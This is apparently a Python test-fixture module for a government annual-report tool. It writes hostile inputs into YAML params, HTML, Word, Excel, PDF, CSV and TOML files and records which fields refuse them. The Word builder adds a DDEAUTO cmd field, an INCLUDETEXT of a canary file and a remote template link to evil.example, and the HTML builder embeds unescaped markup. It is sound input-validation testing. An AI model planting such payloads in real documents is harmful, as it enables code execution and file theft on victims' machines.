"""Files that carry the attacks: params, web pages, Word, Excel, PDF, registers, lists, settings.

Each attack goes through every field that there is; ``Fields`` says what became of it there:
taken in as text, or refused with a sentence.
"""

from __future__ import annotations

import csv
import io
import re
import sys
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field, replace
from html import escape
from pathlib import Path
from typing import Any

from helpers.errors import InputError
from helpers.figures import Figure
from helpers.formats import Ref
from helpers.forms import write_form
from helpers.params import params_data, read_params, report_from, write_params
from helpers.readers import read_report
from helpers.report import Agency, Report
from helpers.rules import agency_key
from hostile import ATTACKS, CANARY_FILE, KINDS, Attack

ROOT = Path(__file__).resolve().parents[1]
sys.path.append(str(ROOT / "tests"))
BASE = ROOT / "params" / "2023" / "宿迁市人民政府.yaml"
WHOLE = "某某县人民政府"

AGENCY = ("name", "short_name", "address", "postcode", "telephone", "fax", "email", "website")
FIELDS = {
    **{f"agency.{key}": "参数文件" for key in (*AGENCY, "formerly")},
    **dict.fromkeys(("narrative", "explanations", "figures", "published", "键"), "参数文件"),
    "文件名": "来源",
    "正文、联系方式和表格": "网页",
    "正文和表格": "Word",
    "封面、文字和说明": "Excel 填报表",
    "数": "Excel 填报表",
    "表格和正文": "PDF",
    "各列": "台账",
    "名称": "机关名单",
    "汇总名单": "设置",
}
"""Where an attack goes in: the field, and the kind of input it belongs to."""

_NO_XML = re.compile("[^\t\n\r -\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


@dataclass
class Fields:
    """How many attacks of a kind each field took in as text, and how many it refused."""

    taken: Counter[tuple[str, str]] = field(default_factory=Counter)
    refused: Counter[tuple[str, str]] = field(default_factory=Counter)

    def note(self, attack: Attack, name: str, *, taken: bool) -> None:
        """Count one attack on a field."""
        (self.taken if taken else self.refused)[attack.kind, name] += 1


def write_sources(seen: Fields, folder: Path) -> dict[str, str]:
    """Params files that carry the attacks; the kinds of attack by the name of their agency.

    ``in`` has all of them, ``names`` only the names, ``some`` a few of these.
    """
    base = read_params(BASE)
    for name in ("in", "names", "some"):
        (folder / name).mkdir()
    written: dict[str, str] = {}
    for number, attack in enumerate(ATTACKS):
        report = _carrying(seen, base, attack, number)
        written[report.agency.name] = attack.kind
        file = folder / "in" / _file_name(seen, attack, number)
        file.write_text(write_params(report), encoding="utf-8")
        only = replace(base, agency=Agency(name=report.agency.name), explanations={})
        for name in ("names", *(["some"] if number % 5 == 0 else [])):  # a picture takes long
            (folder / name / f"{number}.yaml").write_text(write_params(only), encoding="utf-8")
    (folder / "in" / "表.xlsx").write_bytes(_unreadable_form(seen, base))
    return written


def _carrying(seen: Fields, base: Report, attack: Attack, number: int) -> Report:
    """A report with the attack in every field that takes it."""
    data = params_data(replace(base, agency=Agency(name=f"试验{number:03}局")))
    texts = dict.fromkeys(data["narrative"], f"前文。\n\n{attack.text}\n\n后文。")
    reason = {"L-07": {"理由": attack.text, "写入报告": True}}
    tables = data["figures"]
    (block, *_) = tables["三"]
    tries: list[tuple[str, Callable[[dict[str, Any]], Any]]] = [
        *((f"agency.{key}", _set("agency", key, attack.text)) for key in (*AGENCY, "formerly")),
        ("narrative", lambda d: d.update(narrative=texts)),
        ("explanations", lambda d: d.update(explanations=reason)),
        (
            "figures",
            lambda d: d.update(figures=tables | {"三": tables["三"] | {block: attack.text}}),
        ),
        ("published", lambda d: d.update(published=attack.text)),
        ("键", lambda d: d.update({attack.text: attack.text})),
    ]
    for name, change in tries:
        trial = {**data, "agency": dict(data["agency"])}
        change(trial)
        try:
            report_from(trial)
        except InputError:
            seen.note(attack, name, taken=False)
        else:
            seen.note(attack, name, taken=True)
            data = trial
    return report_from(data)


def _set(part: str, key: str, text: str) -> Callable[[dict[str, Any]], Any]:
    value = f"a@{text}.cn" if key == "email" else text
    return lambda data: data[part].update({key: value})


def _file_name(seen: Fields, attack: Attack, number: int) -> str:
    """A file name as hostile as this system allows."""
    name = f"{number:03}{attack.text}".replace("/", "∕").replace("\0", "")
    name = name.encode("utf-8", "ignore")[:200].decode("utf-8", "ignore")
    seen.note(attack, "文件名", taken=True)
    return f"{name}.yaml"


def _unreadable_form(seen: Fields, base: Report) -> bytes:
    """A filled form with an attack in place of each of its first figures."""
    cells = [ref for ref, slot in base.format.slots.items() if ref.table == "三" and not slot.total]
    report = replace(
        base, agency=Agency(name="原文局"), figures=base.figures.having(_raw(cells, ATTACKS))
    )
    for attack in ATTACKS:
        seen.note(attack, "数", taken=True)
    return write_form(report.format, report.year, report=report)


def _raw(cells: Iterable[Ref], attacks: Iterable[Attack]) -> dict[Ref, Figure]:
    return {
        ref: Figure(None, "unreadable", attack.text.replace("\0", ""))
        for ref, attack in zip(cells, attacks, strict=False)
    }


MARKED = {
    name: f"标记{number:02}"
    for number, name in enumerate(FIELDS)
    if FIELDS[name] == "参数文件" and name not in ("published", "键", "agency.postcode", "figures")
}
"""A word of its own for each field, by which an output shows that the field reaches it."""


def write_marks(folder: Path) -> None:
    """A report that has the word of each field in it."""
    base = read_params(BASE)
    fields = {key: MARKED[f"agency.{key}"] for key in (*AGENCY, "formerly") if key != "postcode"}
    fields["email"] = f"a@{fields['email']}.cn"
    report = replace(
        base,
        agency=Agency(**fields),
        narrative={
            key: f"{text}\n\n{MARKED['narrative']}。" for key, text in base.narrative.items()
        },
        explanations={"L-07": MARKED["explanations"]},
        printed_reasons=frozenset({"L-07"}),
    )
    for name in ("in", "names", "some"):
        (folder / name / "标记.yaml").write_text(write_params(report), encoding="utf-8")


# --- other kinds of file ------------------------------------------------------------------------


def write_others(seen: Fields, folder: Path) -> dict[str, str]:
    """A web page, a Word file, a form and a PDF for each kind of attack, with all its strings.

    What a reader refuses is told and counted; the kinds of attack by the name of the agency.
    """
    (folder / "other").mkdir()
    made: dict[str, str] = {}
    ways = {"网页": _page, "Word": _word, "Excel 填报表": _form, "PDF": _pdf}
    places = {kind: name for name, kind in FIELDS.items() if kind in ways and name != "数"}
    for number, kind in enumerate(KINDS):
        attacks = [attack for attack in ATTACKS if attack.kind == kind]
        for way, make in ways.items():
            name = f"{way.split()[0]}{number}局"
            ending, content = make(name, [attack.text for attack in attacks])
            file = folder / "other" / f"{name}{ending}"
            file.write_bytes(content)
            try:
                read_report(file, file.name)
            except InputError:
                read = False
            else:
                read, made[name] = True, kind
            for attack in attacks:
                seen.note(attack, places[way], taken=read)
    return made


def _tables(texts: list[str]) -> list[Any]:
    """The statutory tables with the texts in their first figures."""
    base = read_params(BASE)
    cells = [ref for ref, slot in base.format.slots.items() if ref.table == "四" and not slot.total]
    raw = {ref: Figure(None, "unreadable", text) for ref, text in zip(cells, texts, strict=False)}
    report = replace(base, figures=base.figures.having(raw))
    return [report.grid(table.id) for table in base.format.tables]


def _page(name: str, texts: list[str]) -> tuple[str, bytes]:
    """A web page with the texts as words, and as what they say where they are markup."""
    from helpers import grid_html

    texts = [text.replace("\0", "") for text in texts]  # with it, it is no text at all
    words = "".join(f"<p>{escape(text)}</p>" for text in texts)
    markup = "".join(f"<div>{text}</div>" for text in texts)
    contact = f"<p>地址：{escape(texts[0])}，邮编：010020。</p>"
    tables = "".join(map(grid_html.write, _tables(texts)))
    title = f"<h1>{name}2023年政府信息公开工作年度报告</h1>"
    whole = f"{title}{contact}<h2>一、总体情况</h2>{words}{tables}<h2>六、其他</h2>{markup}"
    return ".html", f"<html><body>{whole}</body></html>".encode("utf-8", "replace")


def _word(name: str, texts: list[str]) -> tuple[str, bytes]:
    """A Word file with the texts as words, as the codes of fields and as addresses of links."""
    import make_files

    texts = [_NO_XML.sub("", text) for text in texts]
    fields = "".join(
        f"<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>{escape(text)}"
        "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r>"
        "<w:r><w:t>域</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
        for text in (*texts, f'INCLUDETEXT "{CANARY_FILE}"', "DDEAUTO cmd")
    )
    body = [
        make_files.p(f"{name}2023年政府信息公开工作年度报告"),
        make_files.p("一、总体情况"),
        *map(make_files.p, texts),
        make_files.p(inner=fields),
        "<w:altChunk r:id='rfar'/>",
        *map(make_files.word_table, _tables(texts)),
    ]
    content = make_files.docx("".join(body))
    return ".docx", _with_far_relations(content, texts)


def _with_far_relations(content: bytes, texts: list[str]) -> bytes:
    """The Word file with relations to other files and hosts."""
    import zipfile

    import make_files

    name = "word/_rels/document.xml.rels"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {part: archive.read(part) for part in archive.namelist()}
    far = "".join(
        f'<Relationship Id="far{n}" TargetMode="External" Type="{make_files.R}/{kind}" '
        f'Target="{escape(target)}"/>'
        for n, (kind, target) in enumerate(
            [
                ("attachedTemplate", "http://evil.example/a.dotm"),
                ("image", f"file:///{CANARY_FILE}"),
                ("aFChunk", CANARY_FILE),
                *(("hyperlink", text) for text in texts),
            ]
        )
    )
    parts[name] = parts[name].replace(b"</Relationships>", f"{far}</Relationships>".encode())
    return make_files.zipped(parts)


def _form(name: str, texts: list[str]) -> tuple[str, bytes]:
    """A form with the texts on its cover, in its sections, its reasons and its figures."""
    base = read_params(BASE)
    text = "\n\n".join(texts)
    fields = dict.fromkeys(("short_name", "address", "telephone", "fax", "website"), texts[0])
    report = replace(
        base,
        agency=Agency.model_construct(**{**Agency(name=name).model_dump(), **fields}),
        narrative=dict.fromkeys(base.narrative, text),
        explanations={"L-07": text},
        printed_reasons=frozenset({"L-07"}),
    )
    return ".xlsx", write_form(report.format, report.year, report=report)


def _pdf(name: str, texts: list[str]) -> tuple[str, bytes]:
    """A PDF with the texts as words."""
    import make_files

    def said(text: str) -> str:
        text = _NO_XML.sub("", text).replace("\\", "\\\\").replace('"', '\\"')
        return f'#text("{" ".join(text.split())}")\n\n'

    tables = "".join(map(make_files.printed, _tables(["1"])))
    title = f"{name}2023年政府信息公开工作年度报告\n\n一、总体情况\n\n"
    return ".pdf", make_files.pdf(f"{title}{''.join(map(said, texts))}\n\n{tables}")


# --- what stands beside reports -----------------------------------------------------------------


def register(seen: Fields) -> str:
    """A register with an attack in each column of a row of its own."""
    heads = ("登记编号", "申请人姓名", "申请人类型", "收到日期", "实收金额", "办结日期", "办理结果")
    sound = ("1", "某人", "自然人", "2023-01-05", "0", "2023-02-01", "予以公开")
    rows = [heads]
    for number, attack in enumerate(ATTACKS):
        text = attack.text.replace("\0", "")
        for column in range(len(heads)):
            cells = [f"2023-{number}-{column}", *sound[1:]]
            cells[column] = text
            rows.append(tuple(cells))
        seen.note(attack, "各列", taken=True)
    return _csv(rows)


def settings(seen: Fields, names: Iterable[str], *, missing: bool = True) -> str:
    """Settings with a roster of all agencies and of some attacks."""
    # A roster refuses what is no name, and two names that mean the same agency.
    more = []
    for attack in ATTACKS if missing else ():
        more.append(f"缺报{attack.text}"[:80])
        seen.note(attack, "汇总名单", taken=_is_name(more[-1]))
    good = {agency_key(name): name for name in (*names, *more) if _is_name(name)}
    units = ", ".join(map(_toml, good.values()))
    return f'[[rollup]]\nparent = "{WHOLE}"\nunits = [{units}]\n'


def _is_name(name: str) -> bool:
    try:
        return Agency(name=name).name == name
    except ValueError:
        return False


def roster(seen: Fields, names: Iterable[str]) -> str:
    """A list of agencies as a spreadsheet program saves it; of two alike only one is taken."""
    names = list(names)
    for attack in ATTACKS:
        seen.note(attack, "名称", taken=attack.text.strip() in names)
    return _csv([["机关名称"], *([name] for name in names)])


def _csv(rows: Iterable[Iterable[str]]) -> str:
    stream = io.StringIO()
    csv.writer(stream).writerows(rows)
    return stream.getvalue()


def _toml(text: str) -> str:
    """A TOML string that holds any characters."""
    return '"' + "".join(c if c.isalnum() else f"\\U{ord(c):08X}" for c in text) + '"'
